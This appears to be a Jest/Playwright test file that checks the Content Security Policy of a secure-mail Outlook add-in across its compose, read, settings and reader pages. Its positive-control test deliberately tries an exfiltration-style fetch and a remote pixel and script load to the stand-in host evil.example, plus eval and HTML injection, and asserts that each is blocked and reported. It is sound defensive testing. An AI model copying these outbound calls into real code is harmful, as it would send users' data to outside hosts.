/**
 * Issue 18: every page runs under the one policy of scripts/csp.mjs with zero violations. The compose pane
 * encrypts (crypto worker, lazy chunks), the settings pane opens, the read pane opens an HTML message in its
 * sandboxed frame (the "spm-frame" Trusted Types policy), Outlook's web event runtime (launchevent.html)
 * decrypts through OnMessageDecrypt, and the web reader opens; every document's violations are recorded.
 * Positive controls show the recorder and the policy catch what they must: a remote image, a fetch to another
 * origin, eval, an HTML string written into the page, a script URL from elsewhere.
 */
import { afterAll, beforeAll, test } from "@jest/globals";
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import type { Browser } from "playwright-core";
import { headerPolicy, OUTLOOK_FRAME_ANCESTORS, pagePolicy } from "../../../scripts/csp.mjs";
import { CSP_REPORT_PATH } from "../../../scripts/serve-lib.mjs";
import { buildDraftEntity } from "../../../src/core/mime";
import { protectEntity } from "../../../src/core/smime";
import { launchBrowser, paneFrame, startServer, type TestServer } from "../../helpers/browser";
import { createTestPki, type TestIdentity, type TestPki } from "../../helpers/openssl";
import { ownFormatEml } from "../pages/read";
import { cspSession, describe as describeViolations, metaPolicy } from "./csp-harness";

let server: TestServer;
let browser: Browser;
let pki: TestPki;
let alice: TestIdentity;
let bob: TestIdentity;

beforeAll(async () => {
  pki = createTestPki();
  alice = pki.issue("alice", "alice@clinic.example");
  bob = pki.issue("bob", "bob@lab.example");
  [server, browser] = await Promise.all([startServer(), launchBrowser()]);
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  pki?.cleanup();
});

async function htmlMessageForBob(): Promise<string> {
  const entity = buildDraftEntity({
    from: { name: "Dr. Alice", address: "alice@clinic.example" },
    to: [{ name: "Bob", address: "bob@lab.example" }],
    cc: [],
    subject: "Lab values",
    date: new Date(),
    messageId: "csp-1@clinic.example",
    html: '<html><head><style>p.x{color:navy}</style></head><body><p class="x">Potassium 4.2 mmol/l</p><img src="http://evil.example/t.png"></body></html>',
    attachments: [{ name: "labs.csv", content: new TextEncoder().encode("k;4.2\r\n"), contentType: "text/csv" }],
  });
  const result = await protectEntity({ entity, signer: { certificate: alice.certDer, privateKey: alice.keyPkcs8, chain: [] }, recipients: [{ certificate: bob.certDer }] });
  return ownFormatEml(result.cms, { readerUrl: `${server.url}/reader.html` });
}

const p12 = (id: TestIdentity) => [readFileSync(id.p12Path).toString("base64"), id.password] as const;

test("compose, settings, read, the event runtime and the web reader run with zero violations", async () => {
  const s = await cspSession(browser, server);
  const { page } = s;
  await page.evaluate(([b, pw]) => window.spmSimulator.importIdentity(b, pw), p12(alice));
  await page.evaluate((pem) => window.spmSimulator.importRecipientCertificate(pem), bob.certPem);

  // Compose: encrypt in the crypto worker (worker-src, webpack's worker URL through its Trusted Types policy).
  await page.evaluate(() =>
    window.spmSimulator.loadDraft({
      from: { displayName: "Alice", emailAddress: "alice@clinic.example" },
      to: [{ displayName: "Bob", emailAddress: "bob@lab.example" }],
      subject: "Referral",
      bodyHtml: "<p>Dear colleague</p>",
      attachments: [],
    }),
  );
  await page.evaluate(() => window.spmSimulator.openPane("compose"));
  let pane = paneFrame(page);
  await pane.getByRole("radio", { name: /^Secure Patient Mail format/ }).check({ timeout: 15_000 });
  await pane.getByRole("button", { name: /^Encrypt/ }).first().click();
  await pane.getByText("The message is encrypted and signed.").first().waitFor({ timeout: 30_000 });
  assert.equal(await metaPolicy(pane), pagePolicy());

  // Settings.
  await page.evaluate(() => window.spmSimulator.openPane("settings"));
  pane = paneFrame(page);
  await pane.getByRole("tab").first().waitFor({ timeout: 15_000 });
  assert.equal(await metaPolicy(pane), pagePolicy());

  // Read: as Bob, an HTML body in the sandboxed frame, set through the "spm-frame" policy.
  await page.evaluate(([b, pw]) => window.spmSimulator.importIdentity(b, pw), p12(bob));
  const eml = await htmlMessageForBob();
  await page.evaluate((m) => window.spmSimulator.loadMessage(m), eml);
  await page.evaluate(() => window.spmSimulator.openPane("read"));
  pane = paneFrame(page);
  await pane.locator('[data-testid="html-body"]').waitFor({ timeout: 45_000 });
  const content = pane.childFrames()[0];
  await content.waitForLoadState("load");
  assert.match(await content.locator("body").textContent() ?? "", /Potassium 4\.2 mmol\/l/);
  assert.equal(await metaPolicy(pane), pagePolicy());

  // Outlook's web event runtime: launchevent.html in a hidden frame decrypts for Outlook's own reading pane.
  const completed = await page.evaluate(() => window.spmSimulator.openItem());
  assert.ok(completed && (completed as { allowEvent?: boolean }).allowEvent !== false, JSON.stringify(completed) + describeViolations(s.violations) + s.errors.join("\n"));
  assert.ok(s.headers.has("/launchevent.html"), "the event runtime page was loaded");

  // The web reader (its own, narrower policy: no Office.js, no Graph).
  const reader = await s.context.newPage();
  await reader.goto(`${server.url}/reader.html`);
  await reader.locator("#root *").first().waitFor({ timeout: 15_000 });
  assert.equal(await metaPolicy(reader), pagePolicy({ office: false, graph: false }));

  await page.waitForTimeout(300);
  assert.equal(s.violations.length, 0, describeViolations(s.violations));
  assert.deepEqual(s.errors, []);
  // The server sent the same policy as a header (frame-ancestors added: only a header can carry it).
  const header = `${headerPolicy({ frameAncestors: ["'self'", ...OUTLOOK_FRAME_ANCESTORS] })}; report-uri ${CSP_REPORT_PATH}`;
  for (const p of ["/compose.html", "/settings.html", "/read.html", "/launchevent.html", "/reader.html"]) assert.equal(s.headers.get(p), header, p);
  assert.equal(s.headers.get("/simulator.html"), undefined, "the simulator page (development only) has no policy");
  await s.close();
}, 120_000);

test("positive controls: the policy blocks and the recorder sees remote loads, eval, HTML strings and foreign script URLs", async () => {
  // The server's report endpoint collects the header policy's reports into this file (scripts/serve-lib.mjs).
  const reportFile = join(mkdtempSync(join(tmpdir(), "spm-csp-")), "reports.jsonl");
  const suiteReportFile = process.env.SPM_CSP_REPORT_FILE; // a run collecting the whole suite's reports keeps its file
  process.env.SPM_CSP_REPORT_FILE = reportFile;
  const s = await cspSession(browser, server);
  await s.page.evaluate(() => window.spmSimulator.openPane("settings"));
  const pane = paneFrame(s.page);
  await pane.locator("#root *").first().waitFor({ timeout: 15_000 });
  const outcome = await pane.evaluate(async () => {
    const result: Record<string, string> = {};
    const img = document.createElement("img");
    img.src = "https://evil.example/pixel.png";
    document.body.append(img);
    try {
      await fetch("https://evil.example/exfiltrate");
      result.fetch = "sent";
    } catch (e) {
      result.fetch = (e as Error).name;
    }
    // From a task of the page's own (code the test tool evaluates directly may bypass the CSP's eval check).
    result.eval = await new Promise<string>((resolve) =>
      setTimeout(() => {
        try {
          resolve(String(eval("1 + 1")));
        } catch (e) {
          resolve((e as Error).name);
        }
      }, 0),
    );
    try {
      document.body.insertAdjacentHTML("beforeend", "<b>x</b>");
      result.html = "written";
    } catch (e) {
      result.html = (e as Error).name;
    }
    for (const [key, url] of [["scriptUrl", "https://evil.example/x.js"], ["officeUrl", "https://appsforoffice.microsoft.com/lib/1/hosted/outlook-web-16.01.js"]]) {
      try {
        document.createElement("script").src = url; // never added to the page: only the assignment is tested
        result[key] = "assigned";
      } catch (e) {
        result[key] = (e as Error).name;
      }
    }
    return result;
  });
  await s.page.waitForTimeout(300);
  // Office.js's own host is allowed by the default policy; anything else is refused.
  assert.deepEqual({ ...outcome }, { fetch: "TypeError", eval: "EvalError", html: "TypeError", scriptUrl: "TypeError", officeUrl: "assigned" });
  // Each is reported by both copies of the policy (the page's <meta> and the server's header).
  const seen = (directive: string, what: RegExp) => s.violations.filter((v) => v.directive === directive && what.test(`${v.blocked} ${v.sample}`)).length;
  assert.equal(seen("img-src", /evil\.example\/pixel\.png/), 2, describeViolations(s.violations));
  assert.equal(seen("connect-src", /evil\.example\/exfiltrate/), 2);
  // Trusted Types stop eval and HTML strings before script-src is even asked, and the default policy refuses
  // a script URL from anywhere but this origin and Office.js's CDN.
  assert.equal(seen("require-trusted-types-for", /^trusted-types-sink eval\|/), 2);
  assert.equal(seen("require-trusted-types-for", /insertAdjacentHTML\|<b>x<\/b>/), 2);
  assert.equal(seen("require-trusted-types-for", /HTMLScriptElement src\|https:\/\/evil\.example\/x\.js/), 2);
  assert.equal(s.violations.length, 10, describeViolations(s.violations));
  assert.ok(s.violations.every((v) => v.disposition === "enforce"));
  // The browser also reported them to the server (report-uri, sent asynchronously).
  const deadline = Date.now() + 10_000;
  const reported = () => (existsSync(reportFile) ? readFileSync(reportFile, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { directive: string; blocked: string }) : []);
  while (reported().length < 5 && Date.now() < deadline) await s.page.waitForTimeout(200);
  const directives = reported().map((r) => r.directive).sort();
  assert.deepEqual(directives, ["connect-src", "img-src", "require-trusted-types-for", "require-trusted-types-for", "require-trusted-types-for"]);
  if (suiteReportFile === undefined) delete process.env.SPM_CSP_REPORT_FILE;
  else process.env.SPM_CSP_REPORT_FILE = suiteReportFile;
  rmSync(dirname(reportFile), { recursive: true, force: true });
  await s.close();
}, 60_000);
